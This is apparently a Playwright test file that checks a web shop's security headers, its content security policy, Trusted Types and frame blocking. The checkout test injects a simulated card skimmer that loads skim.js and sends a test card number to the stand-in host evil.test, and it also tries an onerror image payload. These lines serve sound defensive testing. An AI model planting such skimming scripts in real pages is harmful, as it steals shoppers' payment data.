import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';

import { guardingHeaders, HEADERS_OF, type PageKind } from '../support/pageHeaders';
import { expect, test } from '../support/journeys/journey';
import { goToPayment } from '../support/journeys/payments';
import { goods } from '../support/journeys/shopper';
import { ownShop } from '../support/journeys/shops';
import { consoleAt } from '../support/journeys/stores';

/** A site of somebody else's, played by the test. */
const EVIL = 'http://evil.test';

/** What TypeScript's DOM does not list. */
declare const trustedTypes: { createPolicy: (name: string, rules: object) => unknown };

/** Every kind of page the shop serves while it is open; `pageHeaders.test.ts` has those of other times. */
const PAGES: [path: string, status: number, kind: PageKind][] = [
  ['/', 200, 'strict'],
  ['/products', 200, 'strict'],
  [`/products/${goods.withVariants.slug}`, 200, 'strict'],
  ['/common-questions', 200, 'strict'],
  ['/no-such-page', 404, 'strict'],
  ['/checkout', 200, 'strict'],
  ['/checkout/success/nobodys-order', 200, 'strict'],
  ['/order/nobodys-order', 200, 'strict'],
  ['/auth/login', 200, 'strict'],
  ['/account', 200, 'strict'],
  ['/admin', 200, 'strict'],
  ['/admin/sign?card=true', 200, 'strict'],
  ['/setup', 200, 'setup'],
  ['/sandbox', 200, 'sandbox'],
  ['/sandbox/outbox', 200, 'sandbox'],
  ['/sandbox/outbox/main/nobodys-letter', 404, 'sandbox'],
  ['/sandbox/melhor-envio/api/v2/me/print?ids=1', 200, 'sandboxSheet'],
];

test('every kind of page says what guards it, and runs no script but files of ours with their hashes', async ({
  request,
  baseURL,
}) => {
  const { host } = new URL(consoleAt(baseURL));
  const pages: [url: string, status: number, kind: PageKind, headers?: Record<string, string>][] = [
    ...PAGES,
    ['/platform', 200, 'console', { host }],
  ];
  for (const [url, status, kind, headers = {}] of pages) {
    const reply = await request.get(url, { headers });
    expect([url, reply.status(), reply.headers()['content-type']]).toEqual([url, status, 'text/html; charset=utf-8']);
    expect([url, guardingHeaders(reply.headers())]).toEqual([url, HEADERS_OF[kind]]);
    const html = await reply.text();
    for (const [, attributes = '', body = ''] of html.matchAll(/<script\b([^>]*)>([^<]*)<\/script>/g)) {
      const isData = /type="application\/(ld\+)?json"/.test(attributes);
      const isFile = /^ defer src="\/assets\/[\w./]+" integrity="sha384-[\w+/]{64}"$/.test(attributes) && body === '';
      expect([url, attributes, isData || isFile]).toEqual([url, attributes, true]);
    }
    expect([url, /<[^>]+ on\w+=|href="javascript:/i.test(html)]).toEqual([url, false]);
  }
});

test.describe('what a page keeps out', () => {
  // What is tried is refused, which the console says, and nothing else may be.
  test.use({
    expected: /content security policy|TrustedHTML|TrustedScript|evil\.test|frame-ancestors|404|BLOCKED_BY_RESPONSE/i,
  });

  test('the payment page runs no script that was slipped in, and the operator hears of it', async ({ page }) => {
    await page.route('**/checkout', async (route) => {
      const response = await route.fetch();
      // The Chromium of tests knows `report-to` and sends nothing by it: here it reports as Firefox and Safari do.
      const { 'content-security-policy': policy = '', ...headers } = response.headers();
      const older = policy.replace(/;report-to [^;]+/, '');
      // As whoever stands between the shop and the shopper would do it.
      const slipped = `<script>window.stolen = 1</script><script src="${EVIL}/skim.js?for=6011000990139424"></script>`;
      return route.fulfill({
        response,
        headers: { ...headers, 'content-security-policy': older },
        body: (await response.text()).replace('</head>', `${slipped}</head>`),
      });
    });
    await goToPayment(page, 'parede@example.com');
    const ran = await page.evaluate(async (evil) => {
      const thrown = (work: () => unknown) => {
        try {
          work();
          return 'nothing';
        } catch (error) {
          return error instanceof Error ? error.name : 'other';
        }
      };
      const script = document.createElement('script');
      script.append('window.stolen = 1');
      document.head.append(script);
      await fetch(`${evil}/?card=6011000990139424`).catch(() => null);
      return {
        thrown: [
          thrown(() => (script.text = 'window.stolen = 1')),
          thrown(() => (script.src = `${evil}/skim.js`)),
          thrown(() => (document.body.innerHTML = '<img src=x onerror="window.stolen = 1">')),
          thrown(() => trustedTypes.createPolicy('skim', {})),
          thrown(() => trustedTypes.createPolicy('oipet', {})),
        ],
        isStolen: 'stolen' in window,
      };
    }, EVIL);
    expect(ran).toEqual({ thrown: Array(5).fill('TypeError'), isStolen: false });

    const reports = () =>
      readFileSync(path.join(ownShop().dataDir, 'shop.log'), 'utf8')
        .split('\n')
        .filter((line) => line.includes('"policyReport"'));
    await expect
      .poll(reports, { timeout: 30_000 })
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/"script-src-elem","blocked":"inline","page":"[^"]+\/checkout"/),
          expect.stringMatching(/"script-src-elem","blocked":"http:\/\/evil\.test","page":"[^"]+\/checkout"/),
          expect.stringMatching(/"require-trusted-types-for","blocked":"trusted-types-sink"/),
          expect.stringMatching(/"trusted-types","blocked":"trusted-types-policy"/),
          expect.stringMatching(/"connect-src","blocked":"http:\/\/evil\.test"/),
        ]),
      );
    expect(reports().join('')).not.toContain('6011');
  });

  test('no page of ours shows in a frame of another site', async ({ page, baseURL }) => {
    const framed = [
      '/',
      '/checkout',
      '/order/nobodys-order',
      '/admin',
      '/setup',
      '/no-such-page',
      '/sandbox',
      '/api/docs/',
    ];
    const urls = [...framed.map((one) => new URL(one, baseURL).href), `${consoleAt(baseURL)}/platform`];
    const frames = urls.map((url) => `<iframe src="${url}"></iframe>`).join('');
    const own = '<iframe name="own" src="/own"></iframe>';
    // On this machine: Chromium keeps pages of the internet from it in any case.
    const site = createServer(({ url }, response) => {
      response.writeHead(200, { 'content-type': 'text/html' }).end(url === '/own' ? 'own' : frames + own);
    }).listen(0, '127.0.0.1');
    await once(site, 'listening');
    try {
      const kept: string[] = [];
      page.on('requestfailed', (request) => kept.push(`${request.url()} ${request.failure()?.errorText ?? ''}`));
      const said: string[] = [];
      page.on('console', (message) => said.push(message.text()));
      // Listening on a port, a server's address is no text.
      await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
      await expect(page.frameLocator('[name=own]').getByText('own')).toBeVisible();
      await expect
        .poll(() => kept.toSorted())
        .toEqual(urls.map((url) => `${url} net::ERR_BLOCKED_BY_RESPONSE`).toSorted());
      await expect.poll(() => said.filter((text) => text.includes('frame-ancestors')).length).toBe(urls.length);
    } finally {
      site.closeAllConnections();
      site.close();
    }
  });
});
